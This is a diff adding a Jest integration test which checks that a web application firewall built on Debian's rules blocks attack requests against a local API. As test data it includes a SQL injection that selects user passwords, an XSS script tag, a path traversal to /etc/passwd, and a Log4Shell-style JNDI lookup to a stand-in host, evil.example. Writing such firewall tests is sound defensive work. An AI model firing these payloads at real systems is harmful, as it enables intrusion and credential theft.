@@ -61,6 +61,32 @@ describe('an air-gapped host', () => {
     expect((await there(['health'])).status).toBe(0);
   });
 
+  test('blocks attacks, by Debian’s rules', async () => {
+    const { from } = parsed<{ from: string }>(await there(['waf', 'rules', '--json']));
+    expect(from).toBe('Debian');
+    const { images } = parsed<{ images: { name: string; ref: string }[] }>(await there(['images', 'build', '--dry-run', '--json']));
+    const withCurl = images.find(({ name }) => name === 'patroni')?.ref as string;
+    const asked = async (id: string, ...args: string[]) => {
+      const curl = ['-sk', '-o', '/dev/null', '-w', '%{http_code}', '-A', 'Mozilla/5.0', '-H', `x-request-id: ${id}`, ...args];
+      const from = ['run', '--rm', '--network', `${space.project}_dmz`, '--entrypoint', 'curl', withCurl];
+      return (await host.docker([...from, ...curl, '--connect-to', '::edge:8443'])).stdout;
+    };
+    const page = 'https://localhost/api/requests';
+    expect(await asked('visitor', `${page}?q=the+third+man`)).toBe('200');
+    const attacks = {
+      injection: [`${page}?id=1%20UNION%20SELECT%20password%20FROM%20users`],
+      script: [`${page}?q=%3Cscript%3Ealert(1)%3C/script%3E`],
+      traversal: [`${page}?file=../../../../etc/passwd`],
+      lookup: [page, '-H', 'x-api-version: ${jndi:ldap://evil.example/a}'],
+    };
+    for (const [id, args] of Object.entries(attacks)) expect([id, await asked(id, ...args)]).toEqual([id, '403']);
+    const { entries } = parsed<{ entries: { requestId: string; blocked: boolean }[] }>(
+      await there(['waf', 'log', '--since', '10m', '--json']),
+    );
+    const blocked = entries.filter((entry) => entry.blocked).map(({ requestId }) => requestId);
+    expect(blocked.sort()).toEqual(Object.keys(attacks).sort());
+  });
+
   test('is drawn as it runs, with roles and lag, in a second and a half', async () => {
     const bound = await atMost(1.5);
     const started = performance.now();
